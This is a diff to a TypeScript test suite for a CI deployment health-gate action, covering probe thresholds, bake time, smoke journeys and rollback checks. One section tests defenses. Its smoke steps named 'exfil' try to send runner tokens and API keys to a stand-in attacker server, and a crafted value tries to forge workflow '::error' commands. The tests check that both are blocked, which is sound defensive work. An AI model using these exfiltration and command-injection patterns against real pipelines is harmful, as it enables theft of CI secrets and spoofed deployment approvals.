@@ -16,7 +16,7 @@ import { type Handler, StandIn } from '../../standins/server.js';
 const SHA = '0123456789abcdef0123456789abcdef01234567';
 // A generous timeout so a loaded CI machine does not turn a healthy answer into an error; the
 // hanging-service test sets its own short one.
-const fast = { interval: '100ms', timeout: '2s' };
+const fast = { interval: '100ms', timeout: '2s', 'bake-time': '0s' };
 const started: StandIn[] = [];
 
 /** A service whose /health answers with `handler`; `n` is the 1-based request count. */
@@ -69,14 +69,14 @@ describe('health-gate probes', () => {
     for (const p of ['p50-ms', 'p95-ms', 'p99-ms']) assert.match(r.outputs[p] ?? '', /^\d+$/, p);
     assert.ok(num(r, 'p50-ms') <= num(r, 'p95-ms') && num(r, 'p95-ms') <= num(r, 'p99-ms'));
     assert.equal(r.outputs['observed-version'], SHA);
-    assert.match(r.outputs.reason ?? '', /^3 consecutive passing rounds/);
+    assert.match(r.outputs.reason ?? '', /^Every check passed 3 times in a row \(success-threshold\)/);
     assert.equal(r.outputs.report?.trimEnd(), r.summary.trimEnd());
     assert.match(r.summary, /^<!-- decisionlog-deploy:health-gate -->\n## ✅ Health gate: healthy/);
     assert.match(r.summary, /```mermaid\nxychart-beta/);
     assert.equal(s.requests.length, 3);
   });
 
-  test('dead service (503): unhealthy after failure-threshold rounds, not at the deadline', async () => {
+  test('dead service (503), old failure-threshold input: unhealthy after that many rounds, not at the deadline', async () => {
     const s = await service(() => ({
       status: 503,
       json: { status: 'unavailable', error: 'database is down' },
@@ -90,10 +90,11 @@ describe('health-gate probes', () => {
     assert.equal(s.requests.length, 4);
     assert.match(
       r.outputs.reason ?? '',
-      /^4 consecutive failing rounds: .*\/health answered 503, expected 200\.$/,
+      /^http:\/\/127\.0\.0\.1:\d+\/health failed 4 of 4 measurements, above failure-limit 3 \(last: answered 503, expected 200\)\.$/,
     );
     assert.equal(r.errors.length, 1);
-    assert.match(r.errors[0] ?? '', /^Health gate unhealthy: 4 consecutive failing rounds/);
+    assert.match(r.errors[0] ?? '', /^Health gate unhealthy: .* failed 4 of 4 measurements/);
+    assert.match(r.summary, /Decided by \*\*failure-limit\*\* on http:\/\/127\.0\.0\.1:\d+\/health\./);
     assert.match(
       r.summary,
       /### First failing response\n\nRound 1: .* answered 503, expected 200 \(HTTP 503\)\./,
@@ -101,7 +102,7 @@ describe('health-gate probes', () => {
     assert.match(r.summary, /database is down/);
   });
 
-  test('refusing connections: errors, unhealthy after failure-threshold rounds', async () => {
+  test('refusing connections: errors, unhealthy after consecutive-error-limit + 1 rounds, reported apart from failures', async () => {
     const port = await closedPort();
     const r = await gate({ url: `http://127.0.0.1:${port}/health` });
     assert.equal(r.exitCode, 1);
@@ -110,7 +111,10 @@ describe('health-gate probes', () => {
     assert.equal(num(r, 'errors'), 3);
     assert.equal(num(r, 'failures'), 0);
     assert.equal(r.outputs['p95-ms'], '');
-    assert.match(r.outputs.reason ?? '', /without an answer: .*connection refused \(ECONNREFUSED\)/);
+    assert.match(
+      r.outputs.reason ?? '',
+      /got no answer 3 times in a row, above consecutive-error-limit 2 \(last: gave no answer: connection refused \(ECONNREFUSED\)\)\.$/,
+    );
     assert.doesNotMatch(r.log, /^\s+at /m, 'no stack trace');
   });
 
@@ -132,22 +136,39 @@ describe('health-gate probes', () => {
     assert.ok(num(r, 'p95-ms') >= 120, r.outputs['p95-ms']);
     assert.match(
       r.outputs.reason ?? '',
-      /^Every probe passed but p95 latency is \d+ ms, above max-p95-ms 60 ms\.$/,
+      /^Latency SLO failed: p95 latency is \d+ ms over 3 probes, above max-p95-ms 60 ms\.$/,
     );
   });
 
-  test('flapping service: no streak completes, inconclusive at the deadline, the step fails closed', async () => {
+  test('flapping service (every other answer a 500): unhealthy at its 5th failure, long before the deadline', async () => {
     const s = await service((n) => (n % 2 === 1 ? ok() : { status: 500, text: 'Internal Server Error' }));
-    const r = await gate({ url: `${s.url}/health`, deadline: '2s' });
+    const r = await gate({ url: `${s.url}/health`, deadline: '5m' });
     assert.equal(r.exitCode, 1);
-    assert.equal(r.outputs.result, 'inconclusive');
-    assert.ok(num(r, 'probes') >= 4, r.outputs.probes);
-    assert.ok(num(r, 'passes') >= 2 && num(r, 'failures') >= 2);
+    assert.equal(r.outputs.result, 'unhealthy');
+    assert.equal(num(r, 'probes'), 10);
+    assert.equal(num(r, 'failures'), 5);
     assert.match(
       r.outputs.reason ?? '',
-      /^No decision by the deadline: the best run was 1 of 3 consecutive passing rounds/,
+      /^http:\/\/127\.0\.0\.1:\d+\/health failed 5 of 10 measurements, above failure-limit 4 \(last: answered 500, expected 200\)\.$/,
     );
-    assert.match(r.errors[0] ?? '', /^Health gate inconclusive/);
+    assert.match(r.errors[0] ?? '', /^Health gate unhealthy/);
+  });
+
+  test('a release that dies during the bake is unhealthy within a few rounds, not healthy at the streak', async () => {
+    const s = await service((n) => (n <= 5 ? ok() : { status: 503, json: { status: 'down' } }));
+    const r = await gate({ url: `${s.url}/health`, 'bake-time': '1m', deadline: '5m', 'failure-limit': 4 });
+    assert.equal(r.outputs.result, 'unhealthy');
+    assert.equal(num(r, 'probes'), 10, '3 to pass the streak, 2 more good, then 5 failures');
+    assert.match(r.outputs.reason ?? '', /failed 5 of 10 measurements, above failure-limit 4/);
+    assert.match(r.summary, /\| http:\/\/127\.0\.0\.1:\d+\/health \| failed \| 5 \| 5 \| 0 \| 0 \| 0 \|/);
+  });
+
+  test('a healthy service passes the whole bake, then is healthy', async () => {
+    const s = await service(() => ok());
+    const r = await gate({ url: `${s.url}/health`, 'bake-time': '1s' });
+    assert.equal(r.outputs.result, 'healthy', r.log);
+    assert.ok(num(r, 'probes') >= 10, r.outputs.probes);
+    assert.match(r.outputs.reason ?? '', /stayed within its limits for the 1\.0s bake-time/);
   });
 
   test('old version switching to the new one mid-gate: pending rounds, then healthy on the new version', async () => {
@@ -160,7 +181,7 @@ describe('health-gate probes', () => {
     assert.equal(num(r, 'failures') + num(r, 'errors'), 0);
     assert.equal(r.outputs['observed-version'], SHA);
     assert.match(r.log, /answered healthy from version fedcba9876543210, waiting for 0123456789abcdef/);
-    assert.match(r.summary, /\| 7 \| 3 \| 0 \| 0 \| 4 \|/);
+    assert.match(r.summary, /\| successful \| 3 \| 0 \| 0 \| 0 \| 4 \|/);
   });
 
   test('the old version answering degraded, slow or 503 is pending, not a failure; its latency stays out of p95', async () => {
@@ -187,7 +208,7 @@ describe('health-gate probes', () => {
     );
     assert.match(r.log, /answered 200 from version fedcba9876543210, waiting for 0123456789abcdef/);
     assert.match(r.log, /answered 503 from version fedcba9876543210, waiting for 0123456789abcdef/);
-    assert.match(r.summary, /\| 7 \| 3 \| 0 \| 0 \| 4 \|/);
+    assert.match(r.summary, /\| successful \| 3 \| 0 \| 0 \| 0 \| 4 \|/);
     assert.doesNotMatch(r.summary, /First failing response/);
   });
 
@@ -207,24 +228,27 @@ describe('health-gate probes', () => {
     const s = await service(() => ({ text: '<html>OK</html>', headers: { 'content-type': 'text/html' } }));
     const r = await gate({ url: `${s.url}/health`, 'expect-json': 'status=healthy' });
     assert.equal(r.outputs.result, 'unhealthy');
-    assert.equal(num(r, 'failures'), 3);
+    assert.equal(num(r, 'failures'), 5);
     assert.match(r.outputs.reason ?? '', /answered 200 but the body is not JSON/);
     assert.match(r.summary, /<html>OK<\/html>/);
   });
 
-  test('several URLs: a round passes only when every URL passes', async () => {
+  test('several URLs: each is its own check, and the failing one decides', async () => {
     const good = await service(() => ok());
     const bad = await service(() => ({ json: { status: 'degraded' } }));
     const r = await gate({ url: `${good.url}/health\n${bad.url}/health`, 'expect-json': 'status=healthy' });
     assert.equal(r.outputs.result, 'unhealthy');
-    assert.equal(num(r, 'probes'), 6);
-    assert.equal(num(r, 'passes'), 3);
-    assert.equal(num(r, 'failures'), 3);
+    assert.equal(num(r, 'probes'), 10);
+    assert.equal(num(r, 'passes'), 5);
+    assert.equal(num(r, 'failures'), 5);
     assert.match(
       r.outputs.reason ?? '',
-      new RegExp(`${bad.url}/health answered 200 but has status=degraded, expected healthy`),
+      new RegExp(
+        `^${bad.url}/health failed 5 of 5 measurements, above failure-limit 4 \\(last: answered 200 but has status=degraded, expected healthy\\)`,
+      ),
     );
-    assert.ok(r.summary.includes(`| ${good.url}/health | 3 | 3 | 0 | 0 | 0 |`));
+    assert.ok(r.summary.includes(`| ${good.url}/health | successful | 5 | 0 | 0 | 0 | 0 |`), r.summary);
+    assert.ok(r.summary.includes(`| ${bad.url}/health | failed | 0 | 5 | 0 | 0 | 0 |`), r.summary);
   });
 
   test('fail-on-unhealthy false: the step passes with a warning and result says unhealthy', async () => {
@@ -341,7 +365,10 @@ describe('health-gate smoke journey', () => {
     const { s, tokens } = await decisionLog({ decisionsStatus: 500 });
     const r = await gate({ url: `${s.url}/health`, 'smoke-file': smokeFile(journey) }, { env });
     assert.equal(r.outputs.result, 'unhealthy');
-    assert.match(r.outputs.reason ?? '', /smoke journey step "decisions" answered 500, expected 200/);
+    assert.match(
+      r.outputs.reason ?? '',
+      /^smoke journey failed 5 of 5 measurements, above failure-limit 4 \(last: step "decisions" answered 500, expected 200\)\.$/,
+    );
     assert.match(r.summary, /"error":"boom"/);
     for (const secret of tokens) assert.deepEqual(leaks(r, secret), [], secret);
   });
@@ -388,7 +415,15 @@ describe('health-gate smoke journey', () => {
     path: /api/projects
     headers: { authorization: "Bearer \${bearer}" }
 `);
-    const r = await gate({ url: `${s.url}/health`, 'smoke-file': file, 'expect-version': SHA }, { env });
+    const r = await gate(
+      {
+        url: `${s.url}/health`,
+        'smoke-file': file,
+        'expect-version': SHA,
+        'smoke-variables': 'SMOKE_*\nGITHUB_SHA',
+      },
+      { env },
+    );
     assert.equal(r.exitCode, 0, r.log);
     assert.equal(r.outputs.result, 'healthy');
     assert.equal(r.outputs.healthy, 'true');
@@ -422,6 +457,151 @@ describe('health-gate smoke journey', () => {
       /step "login" uses \$\{SMOKE_PASSWORD\}, which no earlier step captures and the environment does not set/,
     );
     assert.equal(s.requests.length, 0);
+  });
+});
+
+describe('health-gate: what a smoke file or the probed service cannot do (issue 21)', () => {
+  function smokeFile(text: string): string {
+    const dir = mkdtempSync(join(tmpdir(), 'hg-reach-'));
+    writeFileSync(join(dir, 'smoke.yml'), text);
+    return join(dir, 'smoke.yml');
+  }
+  const runnerSecrets = {
+    SMOKE_EMAIL: 'smoke@decisionlog.dev',
+    ACTIONS_RUNTIME_TOKEN: 'runtime-token-7f6e5d4c3b2a',
+    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-1a2b3c4d',
+    DATABASE_URL: 'postgres://app:db-password-91@db.internal/app',
+  };
+
+  test('21.2: ${NAME} of the runner tokens, other inputs or other secrets is a config error; nothing is sent', async () => {
+    const s = await service(() => ok());
+    for (const name of [
+      'ACTIONS_RUNTIME_TOKEN',
+      'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
+      'INPUT_HEADERS',
+      'DATABASE_URL',
+    ]) {
+      const file = smokeFile(
+        `steps:\n  - name: exfil\n    method: POST\n    path: /collect\n    json: { v: "\${${name}}" }\n`,
+      );
+      const r = await gate(
+        { url: `${s.url}/health`, 'smoke-file': file, headers: 'Authorization: Bearer prod-header-token-55' },
+        { env: runnerSecrets },
+      );
+      assert.equal(r.exitCode, 1, name);
+      assert.match(
+        r.errors[0] ?? '',
+        new RegExp(
+          `uses \\$\\{${name}\\}, which no earlier step captures and smoke-variables does not allow`,
+        ),
+      );
+    }
+    assert.equal(s.requests.length, 0);
+  });
+
+  test('21.2: a step may not call another origin; an allowed one never gets the headers input', async () => {
+    const s = await service(() => ok());
+    const attacker = await new StandIn().route('POST', '/collect', () => ({ json: { ok: true } })).start();
+    started.push(attacker);
+    const file = smokeFile(
+      `steps:\n  - name: exfil\n    method: POST\n    url: ${attacker.url}/collect\n    json: { email: "\${SMOKE_EMAIL}" }\n`,
+    );
+    const headers = 'X-Api-Key: prod-header-token-55';
+    const refused = await gate(
+      { url: `${s.url}/health`, 'smoke-file': file, headers },
+      { env: runnerSecrets },
+    );
+    assert.equal(refused.exitCode, 1);
+    assert.match(
+      refused.errors[0] ?? '',
+      /step "exfil" calls http:\/\/127\.0\.0\.1:\d+, which is neither the gate URL's origin/,
+    );
+    assert.equal(attacker.requests.length, 0);
+
+    const allowed = await gate(
+      { url: `${s.url}/health`, 'smoke-file': file, headers, 'smoke-origins': attacker.url },
+      { env: runnerSecrets },
+    );
+    assert.equal(allowed.outputs.result, 'healthy', allowed.log);
+    assert.ok(attacker.requests.length >= 3);
+    for (const req of attacker.requests) assert.equal(req.headers['x-api-key'], undefined);
+    assert.equal(s.requests[0]?.headers['x-api-key'], 'prod-header-token-55', 'the gate URL still gets it');
+  });
+
+  test('21.2: a captured value that steers a step to another origin: the step fails and nothing is sent', async () => {
+    const attacker = await new StandIn().route('GET', '/collect', () => ({ json: {} })).start();
+    started.push(attacker);
+    const s = await new StandIn()
+      .route('GET', '/health', () => ok())
+      .route('GET', '/next', () => ({ json: { next: new URL(attacker.url).host } }))
+      .start();
+    started.push(s);
+    const file = smokeFile(
+      'steps:\n  - name: where\n    path: /next\n    capture: { next: next }\n  - name: follow\n    url: "http://${next}/collect"\n',
+    );
+    const r = await gate({
+      url: `${s.url}/health`,
+      'smoke-file': file,
+      headers: 'X-Api-Key: prod-header-token-55',
+    });
+    assert.equal(r.outputs.result, 'unhealthy', r.log);
+    assert.match(
+      r.outputs.reason ?? '',
+      /step "follow" would call http:\/\/127\.0\.0\.1:\d+, which is neither the gate URL's origin nor in smoke-origins; not sent/,
+    );
+    assert.equal(attacker.requests.length, 0);
+  });
+
+  test('21.7: a version or JSON value with line breaks cannot forge a workflow command', async () => {
+    const forged = 'v2\n::error title=Deploy approved::all good\n::warning::x';
+    const s = await service(() => ({ json: { status: forged, version: forged } }));
+    const r = await gate({
+      url: `${s.url}/health`,
+      'expect-json': 'status=healthy',
+      'expect-version': SHA,
+      deadline: '1s',
+    });
+    assert.equal(r.outputs.result, 'unhealthy');
+    assert.doesNotMatch(r.log, /^::error title=Deploy approved/m);
+    assert.doesNotMatch(r.log, /^::warning::x/m);
+    assert.equal(r.errors.filter((e) => e.includes('all good') && !e.startsWith('Health gate')).length, 0);
+    assert.doesNotMatch(r.outputs['observed-version'] ?? '', /\n/);
+  });
+
+  test('21.9: a credential in the URL query under any name never appears in logs, outputs or the summary', async () => {
+    const credential = 'q-cred-0a9b8c7d6e5f';
+    const s = await service(() => ({ status: 503 }));
+    const r = await gate({ url: `${s.url}/health?auth=${credential}&region=eu`, 'failure-limit': 0 });
+    assert.equal(r.outputs.result, 'unhealthy');
+    assert.equal(s.requests[0]?.query.get('auth'), credential, 'the probe itself carries it');
+    assert.deepEqual(leaks(r, credential), []);
+    assert.match(r.outputs.reason ?? '', new RegExp(`^${s.url}/health failed 1 of 1 measurement`));
+  });
+});
+
+describe('health-gate guarding a rollback', () => {
+  const GOOD = 'aaaaaaa1111111111111111111111111111111aa';
+  test('expect-version set to the restored commit: the bad release answering 200 is never called healthy', async () => {
+    const s = await service(() => ok(SHA));
+    const r = await gate({
+      url: `${s.url}/health`,
+      'expect-json': 'status=healthy',
+      'expect-version': GOOD,
+      deadline: '800ms',
+    });
+    assert.equal(r.outputs.result, 'unhealthy');
+    assert.equal(num(r, 'passes'), 0);
+    assert.match(
+      r.outputs.reason ?? '',
+      new RegExp(`^Version ${SHA} is still serving: ${GOOD} never answered`),
+    );
+  });
+
+  test('traffic back on the restored commit: healthy', async () => {
+    const s = await service((n) => (n <= 2 ? ok(SHA) : ok(GOOD)));
+    const r = await gate({ url: `${s.url}/health`, 'expect-json': 'status=healthy', 'expect-version': GOOD });
+    assert.equal(r.outputs.result, 'healthy', r.log);
+    assert.equal(r.outputs['observed-version'], GOOD);
   });
 });
 
@@ -503,7 +683,7 @@ describe('health-gate Sentry gate', () => {
     assert.equal(r.outputs.healthy, 'false');
     assert.deepEqual(r.errors, []);
     assert.deepEqual(r.warnings, [
-      'Health gate inconclusive (fail-on-unhealthy is false, so the step passes): Sentry rejected sentry-auth-token (401: Invalid token): use a valid auth token with the event:read and project:read scopes.',
+      'Health gate inconclusive (fail-on-unhealthy is false, so the step passes): Sentry could not be queried 3 times in a row, above consecutive-error-limit 2: Sentry rejected sentry-auth-token (401: Invalid token): use a valid auth token with the event:read and project:read scopes.',
     ]);
     assert.deepEqual(leaks(r, bad), []);
   });
@@ -514,8 +694,9 @@ describe('health-gate Sentry gate', () => {
     assert.equal(r.exitCode, 1);
     assert.equal(r.outputs.result, 'inconclusive');
     assert.deepEqual(r.errors, [
-      'Sentry rejected sentry-auth-token (401: Invalid token): use a valid auth token with the event:read and project:read scopes.',
+      'Health gate inconclusive: Sentry could not be queried 3 times in a row, above consecutive-error-limit 2: Sentry rejected sentry-auth-token (401: Invalid token): use a valid auth token with the event:read and project:read scopes.',
     ]);
+    assert.equal(num(r, 'probes'), 5, 'the probes go on while Sentry is asked again');
     assert.deepEqual(leaks(r, bad), []);
   });
 });
